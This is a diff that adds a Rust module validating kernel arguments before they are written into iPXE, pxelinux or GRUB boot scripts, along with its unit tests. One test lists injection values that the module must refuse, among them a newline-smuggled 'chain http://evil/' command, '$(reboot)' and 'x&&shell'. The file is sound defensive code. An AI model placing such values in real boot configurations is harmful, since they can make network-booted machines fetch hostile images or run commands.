@@ -1,0 +1,128 @@
+//! Kernel arguments: words that come from tables and go into boot scripts.
+//!
+//! A table cell is text from a person; a boot script is read by iPXE, pxelinux or GRUB, each
+//! with its own idea of quotes, variables and line ends. [`KernelArgs`] only takes words that
+//! no loader can misread as anything but a word, so a view may print them as they are.
+
+use super::PlanError;
+use std::fmt;
+
+/// Stands for "the address of the server that the node talks to" until a view knows how its
+/// loader writes that: iPXE `${next-server}`, GRUB and pxelinux the address itself.
+pub const MY_IP: &str = "!myipfn!";
+
+/// Length of a kernel command line that x86 Linux accepts (`COMMAND_LINE_SIZE`), in bytes.
+pub const KERNEL_ARGS_BYTES_MAX: usize = 2047;
+
+/// A kernel command line, word by word.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct KernelArgs(Vec<String>);
+
+impl KernelArgs {
+    /// Appends one word.
+    ///
+    /// # Errors
+    /// [`PlanError::Argument`] if a boot loader could read the word as something else, or if
+    /// the line becomes longer than a kernel takes.
+    pub fn push(&mut self, word: impl Into<String>) -> Result<(), PlanError> {
+        let word = word.into();
+        if let Some(reason) = misreadable(&word) {
+            return Err(PlanError::Argument { word, reason });
+        }
+        let length: usize = self.0.iter().map(|word| word.len() + 1).sum();
+        if length + word.len() > KERNEL_ARGS_BYTES_MAX {
+            return Err(PlanError::Argument {
+                word,
+                reason: "the command line is longer than a kernel takes",
+            });
+        }
+        self.0.push(word);
+        Ok(())
+    }
+
+    /// Appends the volatile words of an `addkcmdline` cell: words that begin with `R::` are
+    /// for installed systems and left out.
+    ///
+    /// # Errors
+    /// As [`KernelArgs::push`].
+    pub fn push_cell(&mut self, cell: &str) -> Result<(), PlanError> {
+        cell.split(' ')
+            .filter(|word| !word.is_empty() && !word.starts_with("R::"))
+            .try_for_each(|word| self.push(word))
+    }
+
+    /// The line with [`MY_IP`] replaced by `server`.
+    #[must_use]
+    pub fn render(&self, server: &str) -> String {
+        self.0.join(" ").replace(MY_IP, server)
+    }
+}
+
+impl fmt::Display for KernelArgs {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0.join(" "))
+    }
+}
+
+/// Why some loader would not take `word` as one plain word.
+fn misreadable(word: &str) -> Option<&'static str> {
+    if word.is_empty() {
+        return Some("it is empty");
+    }
+    if !word.bytes().all(|byte| byte.is_ascii_graphic()) {
+        return Some("it contains a blank, a control character or a character outside ASCII");
+    }
+    if word.contains("${") || word.contains("$(") || word.contains('`') {
+        return Some("a boot loader would expand it");
+    }
+    if word.contains(['"', '\'', '\\', '{', '}', ';', '|', '<', '>']) || word.contains("&&") {
+        return Some("it contains a character that boot loaders interpret");
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn plain_words_pass_and_the_server_is_filled_in() {
+        let mut args = KernelArgs::default();
+        args.push(format!("imgurl=http://{MY_IP}:80/install/a.sfs")).unwrap();
+        args.push_cell("quiet R::crashkernel=128M  console=ttyS0,115200n8").unwrap();
+        assert_eq!(
+            args.render("${next-server}"),
+            "imgurl=http://${next-server}:80/install/a.sfs quiet console=ttyS0,115200n8"
+        );
+    }
+
+    #[test]
+    fn words_that_break_out_of_a_script_are_refused() {
+        for word in [
+            "",
+            "a b",
+            "a\nchain http://evil/",
+            "${net0/mac}",
+            "$(reboot)",
+            "x||shell",
+            "x&&shell",
+            "a;b",
+            "\"",
+            "it's",
+            "a\\",
+            "{",
+            "}",
+            "naïve",
+            "\u{7f}",
+        ] {
+            assert!(KernelArgs::default().push(word).is_err(), "{word:?} passed");
+        }
+    }
+
+    #[test]
+    fn the_line_is_bounded() {
+        let mut args = KernelArgs::default();
+        args.push("x".repeat(2000)).unwrap();
+        assert!(args.push("y".repeat(100)).is_err());
+    }
+}
